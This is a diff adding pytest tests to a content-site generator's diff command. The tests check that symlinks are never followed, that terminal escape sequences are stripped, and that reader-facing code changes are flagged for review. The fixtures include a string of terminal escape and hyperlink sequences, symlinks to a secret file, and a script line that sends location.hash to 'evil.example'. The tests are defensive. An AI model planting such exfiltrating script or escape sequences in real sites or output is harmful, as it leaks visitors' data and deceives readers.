@@ -11,7 +11,18 @@ from pathlib import Path
 import pytest
 
 from generator.cli import main
-from generator.diff import DiffError, calculator_text, diff_site
+from generator.diff import (
+    MAX_CODE_DIFF_LINES,
+    CodeChange,
+    DiffError,
+    PageChange,
+    SiteDiff,
+    calculator_text,
+    diff_site,
+    format_markdown,
+    format_text,
+    printable,
+)
 
 GIT_ENV = {
     "GIT_AUTHOR_NAME": "Test Editor",
@@ -231,3 +242,128 @@ def test_the_command_never_shows_a_traceback(repo):
     )
     assert result.returncode == 2
     assert result.stderr.startswith("error: unknown revision 'nope'") and "Traceback" not in result.stderr
+
+
+# -- revisions come from git's objects: attributes cannot hide a file, links are never followed --------------------
+def test_export_ignore_in_gitattributes_does_not_hide_a_change(content_copy, monkeypatch, capsys):
+    root = content_copy.parent
+    git(root, "init", "-q")
+    (root / ".gitattributes").write_text(
+        "content/causes/night-cramps.yaml export-ignore\ncontent/causes/*.yaml -diff\n", encoding="utf-8"
+    )
+    commit_all(root, "fixture content, one cause hidden from git archive")
+    edit(content_copy / "causes" / "night-cramps.yaml", "summary: Common at night", "summary: Rare at night")
+    commit_all(root, "reword it")
+    monkeypatch.chdir(root)
+    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD")
+    assert code == 0
+    assert "changed  causes/night-cramps.md  Night cramps  [content/causes/night-cramps.yaml]" in out.splitlines()
+    assert "-Common at night<sup" in out and "+Rare at night<sup" in out
+
+
+@pytest.mark.parametrize("target_is_directory", [False, True])
+def test_a_symbolic_link_in_a_revisions_content_is_named_never_followed(repo, capsys, target_is_directory):
+    secret = repo.parent / "secret.txt"
+    secret.write_text("password: hunter2\n", encoding="utf-8")
+    link = repo / "content" / "causes" / "linked.yaml"
+    link.symlink_to(secret.parent if target_is_directory else secret, target_is_directory=target_is_directory)
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "a link")
+    code, out, err = run_diff(capsys, "HEAD~1", "HEAD")
+    assert (code, out) == (2, "")
+    assert err.startswith("error: the content at ") and "content/causes/linked.yaml" in err
+    assert "never followed" in err and "hunter2" not in err and str(secret.parent) not in err
+    assert err.count("\n") == 1
+
+
+# -- nothing printed carries a terminal escape sequence ------------------------------------------------------------
+HOSTILE = "Night \x1b[31mcramps\x1b[0m \x1b]8;;http://evil\x07click\x1b]8;;\x07 \x9b2J\x07\r\x00\u202eend"
+
+
+def test_printable_strips_escape_sequences_and_control_characters():
+    assert printable(HOSTILE) == "Night cramps click end"
+    assert printable("tab\tand\nnewline stay") == "tab\tand\nnewline stay"
+    assert printable("\x1b]0;unterminated title\nnext line") == "\nnext line"
+
+
+def test_text_and_markdown_output_hold_no_escape_sequence():
+    diff = ("--- a/causes/x.md", "+++ b/causes/x.md", "@@ -1 +1 @@", "-old", f"+{HOSTILE}")
+    change = PageChange("causes/x.md", "changed", HOSTILE, f"content/causes/{HOSTILE}.yaml", diff)
+    code = CodeChange(f"site_overrides/{HOSTILE}.js", "added", "scripts", ("+++ b/x.js", f"+{HOSTILE}"))
+    site_diff = SiteDiff(f"base{HOSTILE}", "head", (change,), 0, code=(code,))
+    for output in (format_text(site_diff), format_markdown(site_diff), format_text(site_diff, summary_only=True)):
+        assert "Night cramps" in output
+        assert not any(char in output for char in "\x1b\x07\x00\r\x9b\u202e"), repr(output)
+
+
+def test_a_diff_error_message_holds_no_escape_sequence():
+    assert str(DiffError(f"unknown revision '{HOSTILE}'\nsecond line")) == (
+        "unknown revision 'Night cramps click end' second line"
+    )
+
+
+# -- code that shapes what readers see is listed and diffed, to be reviewed as code --------------------------------
+@pytest.fixture
+def code_repo(repo: Path) -> Path:
+    """``repo`` with reader-facing code committed beside its content."""
+    (repo / "generator" / "schemas").mkdir(parents=True)
+    (repo / "generator" / "schemas" / "cause.schema.json").write_text('{\n  "pattern": "^[A-Za-z ]+$"\n}\n')
+    (repo / "generator" / "templates").mkdir()
+    (repo / "generator" / "templates" / "cause.md.j2").write_text("# {{ cause.name }}\n")
+    (repo / "site_overrides").mkdir()
+    (repo / "site_overrides" / "main.html").write_text("{% extends 'base.html' %}\n")
+    (repo / "mkdocs.yml").write_text("site_name: Leg cramps\n")
+    (repo / "README.md").write_text("not reader-facing code\n")
+    commit_all(repo, "code")
+    return repo
+
+
+def test_a_schema_relaxed_in_the_same_change_is_listed_with_its_diff(code_repo, capsys):
+    (code_repo / "generator" / "schemas" / "cause.schema.json").write_text('{\n  "pattern": ".*"\n}\n')
+    (code_repo / "site_overrides" / "main.html").unlink()
+    (code_repo / "site_overrides" / "extra.js").write_text("fetch('https://evil.example/' + location.hash);\n")
+    (code_repo / "README.md").write_text("changed, but readers never see it\n")
+    edit(code_repo / "content" / "causes" / "night-cramps.yaml", "Very common", "Common")
+    commit_all(code_repo, "relax the name pattern, and reword a cause")
+    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD")
+    assert code == 0
+    lines = out.splitlines()
+    section = lines.index("Code that shapes what readers see: review as code:")
+    assert lines[section + 1 : section + 4] == [
+        "changed  generator/schemas/cause.schema.json  (what content may say)",
+        "added    site_overrides/extra.js  (theme overrides, scripts, styles and service worker)",
+        "removed  site_overrides/main.html  (theme overrides, scripts, styles and service worker)",
+    ]
+    assert lines[section + 4].startswith("3 files differ between HEAD~1 (")
+    assert '-  "pattern": "^[A-Za-z ]+$"' in lines and '+  "pattern": ".*"' in lines
+    assert "+fetch('https://evil.example/' + location.hash);" in lines
+    assert "README.md" not in out
+
+    code, out, _ = run_diff(capsys, "HEAD~1", "HEAD", "--format", "markdown")
+    assert "### Code that shapes what readers see: review as code" in out
+    assert "| changed | `generator/schemas/cause.schema.json` | what content may say |" in out
+    assert "<details><summary>changed: generator/schemas/cause.schema.json</summary>" in out
+    # The code's diffs come before the pages', so the comment's size limit never drops them.
+    assert out.index("<summary>changed: generator/schemas") < out.index("<summary>changed: causes/night-cramps.md")
+
+
+def test_the_working_tree_code_counts_new_files_and_never_follows_a_link(code_repo, capsys):
+    (code_repo / "generator" / "templates" / "cause.md.j2").write_text("# {{ cause.name | safe }}\n")
+    (code_repo / "site_overrides" / "new.css").write_text("body { display: none }\n")  # not committed, not ignored
+    (code_repo / "site_overrides" / "secret").symlink_to(code_repo.parent / "secret.txt")
+    code, out, _ = run_diff(capsys, "HEAD")
+    assert code == 0
+    assert "changed  generator/templates/cause.md.j2  (how pages present content)" in out
+    assert "added    site_overrides/new.css  (theme overrides, scripts, styles and service worker)" in out
+    assert "+# {{ cause.name | safe }}" in out and "+body { display: none }" in out
+    assert "a symbolic link was added, changed or removed here (never followed; its target is not shown)" in out
+    assert "secret.txt" not in out
+
+
+def test_a_long_code_diff_is_capped_and_an_escape_in_code_is_stripped(code_repo, capsys):
+    script = "".join(f"console.log({n});\n" for n in range(1_000)) + "// \x1b]8;;http://evil\x07x\x1b]8;;\x07\n"
+    (code_repo / "site_overrides" / "big.js").write_text(script)
+    code, out, _ = run_diff(capsys, "HEAD")
+    assert code == 0
+    assert f"... {1_000 + 1 + 3 - MAX_CODE_DIFF_LINES} more lines of this diff; see it whole with git diff" in out
+    assert "\x1b" not in out and "\x07" not in out
